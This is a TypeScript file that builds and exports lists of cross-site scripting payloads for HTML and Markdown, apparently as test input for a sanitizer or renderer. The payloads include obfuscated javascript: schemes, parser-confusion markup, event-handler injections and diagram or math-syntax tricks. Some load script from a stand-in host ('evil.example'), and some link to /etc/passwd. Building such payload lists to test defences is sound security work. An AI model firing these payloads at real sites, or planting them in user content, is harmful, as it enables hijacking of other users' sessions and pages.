/** Ways to run a program in somebody's page: by tag, by attribute, by address, by what parsers read differently. */
const program = "alert(document.domain)";

const tags = [
  `<script>${program}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${program}</scr</script>ipt>`,
  `<script\n>${program}</script\n>`,
  `<script/x>${program}</script>`,
  `<svg><script>${program}</script></svg>`,
  `<svg onload=${program}>`,
  `<svg><animate onbegin=${program} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${program}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${program}>#x"></use></svg>`,
  `<svg><foreignObject><iframe src="javascript:${program}"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=href to="javascript:${program}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${program}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${program}">x</math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${program}">x</maction></math>`,
  `<iframe src="javascript:${program}"></iframe>`,
  `<iframe srcdoc="<script>${program}</script>"></iframe>`,
  `<object data="javascript:${program}"></object>`,
  `<object data="data:text/html,<script>${program}</script>"></object>`,
  `<embed src="javascript:${program}">`,
  `<applet code=x archive=//evil.example/x.jar></applet>`,
  `<base href="javascript:${program}//">`,
  `<link rel=stylesheet href="javascript:${program}">`,
  `<link rel=import href=//evil.example/x>`,
  `<meta http-equiv=refresh content="0;url=javascript:${program}">`,
  `<form action="javascript:${program}"><input type=submit></form>`,
  `<form><button formaction="javascript:${program}">x</button></form>`,
  `<isindex action="javascript:${program}" type=submit>`,
  `<style>@import 'javascript:${program}';</style>`,
  `<style>*{background:url("javascript:${program}")}</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${program}>">`,
  `<template><script>${program}</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${program}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${program}>">`,
  `<title><p title="</title><img src=x onerror=${program}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${program}>">`,
  `<plaintext><script>${program}</script>`,
  `<!--><script>${program}</script>-->`,
  `<!-- --!><script>${program}</script> -->`,
  `<![CDATA[<script>${program}</script>]]>`,
  `<?xml version="1.0"?><script>${program}</script>`,
  `<!doctype html [<!ENTITY x "<script>${program}</script>">]>&x;`,
  `<table background="javascript:${program}"><td>x</td></table>`,
  `<frameset onload=${program}><frame src="javascript:${program}"></frameset>`,
  `<marquee onstart=${program}>x</marquee>`,
  `<details open ontoggle=${program}>x</details>`,
  `<video><source onerror=${program}></video>`,
  `<video src=x onerror=${program}></video>`,
  `<audio src=x onerror=${program}></audio>`,
  `<portal src="javascript:${program}"></portal>`,
  `<bgsound src="javascript:${program}">`,
  `<layer src="javascript:${program}"></layer>`,
];

const handlers = (
  "onabort onafterprint onanimationend onauxclick onbeforeinput onbeforeunload onblur oncanplay onchange onclick " +
  "onclose oncontextmenu oncopy oncut ondblclick ondrag ondrop onended onerror onfocus onfocusin onformdata onhashchange " +
  "oninput oninvalid onkeydown onload onmessage onmousedown onmouseenter onmouseover onpageshow onpaste onplay " +
  "onpointerdown onpopstate onreset onresize onscroll onsearch onselect onshow onsubmit ontoggle ontouchstart " +
  "ontransitionend onunload onwheel"
).split(" ");
const carriers = ["p", "img src=x", "a href=# "];

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\tscript:",
  "java\nscript:",
  "java\rscript:",
  "\u0001javascript:",
  "javascript&colon;",
  "javascript&#58;",
  "javascript&#x3a;",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "&#0000106avascript:",
  "java&Tab;script:",
  "java&NewLine;script:",
  "vbscript:",
  "livescript:",
  "mocha:",
  "data:text/html,",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,",
  "data:application/xhtml+xml,",
  "feed:javascript:",
  "view-source:javascript:",
  "jar:javascript:",
  "blob:javascript:",
  "filesystem:javascript:",
  "//evil.example/%0d%0ajavascript:",
];
const places = [
  (address: string) => `<a href="${address}${program}">x</a>`,
  (address: string) => `<img src="${address}${program}">`,
  (address: string) => `<a href='${address}${program}' target=_blank>x</a>`,
];
const inMarkdown = [
  (address: string) => `[x](${address}${program.replace(/[()]/g, "")})`,
  (address: string) => `[x](<${address}${program}>)`,
  (address: string) => `![x](<${address}${program}>)`,
  (address: string) => `<${address}${program.replace(/[()]/g, "")}>`,
  (address: string) => `[x]\n\n[x]: <${address}${program}>`,
];
const markdown = [
  "[[x|<img src=x onerror=alert(1)>]]",
  "[[<script>alert(1)</script>]]",
  "![<script>alert(1)</script>](x)",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  '```mermaid\ngraph LR\n A[<img src=x onerror=alert(1)>] --> B\n click A href "javascript:alert(1)"\n```',
  "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph LR\n A --> B\n click A call alert()\n```",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\htmlData{x=1}{y} \\includegraphics{javascript:alert(1)}$",
  "$$\n\\url{javascript:alert(1)}\n$$",
  '---\ntitle: "<script>alert(1)</script>"\n---\nx',
  "> [!NOTE]<script>alert(1)</script>\n> x",
  "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
  "- [ ] <svg onload=alert(1)>",
  "# <img src=x onerror=alert(1)>",
  '<https://x.example/"onmouseover="alert(1)>',
  '[a](https://x.example/"onmouseover="alert(1))',
  "[a](https://x.example 'onmouseover=alert(1)//')",
  "https://x.example/<script>alert(1)</script>",
  "[file](file:///etc/passwd)",
  "![file](file:..%2f..%2fetc%2fpasswd)",
];

/** What is sent as HTML. */
export const htmlAttacks: string[] = [
  ...tags,
  ...handlers.flatMap((handler) => carriers.map((carrier) => `<${carrier} ${handler}="${program}">x`)),
  ...schemes.flatMap((scheme) => places.map((place) => place(scheme))),
];

/** What is sent as Markdown; HTML may stand in it. */
export const markdownAttacks: string[] = [
  ...markdown,
  ...schemes.flatMap((scheme) => inMarkdown.map((place) => place(scheme))),
  ...htmlAttacks,
];
